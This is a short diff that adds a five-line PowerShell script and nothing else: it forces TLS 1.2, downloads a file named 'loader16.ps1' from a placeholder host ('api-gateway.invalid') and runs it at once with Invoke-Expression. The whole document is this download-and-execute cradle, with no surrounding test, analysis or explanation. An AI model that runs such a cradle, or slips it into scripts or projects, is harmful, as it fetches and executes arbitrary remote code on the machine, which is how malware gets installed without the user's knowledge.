@@ -1,0 +1,5 @@
+[Net.ServicePointManager]::SecurityProtocol = [Net.SecurityProtocolType]::Tls12
+$url = 'http://api-gateway.invalid/loader16.ps1'
+$client = New-Object Net.WebClient
+$payload = $client.DownloadString($url)
+Invoke-Expression $payload
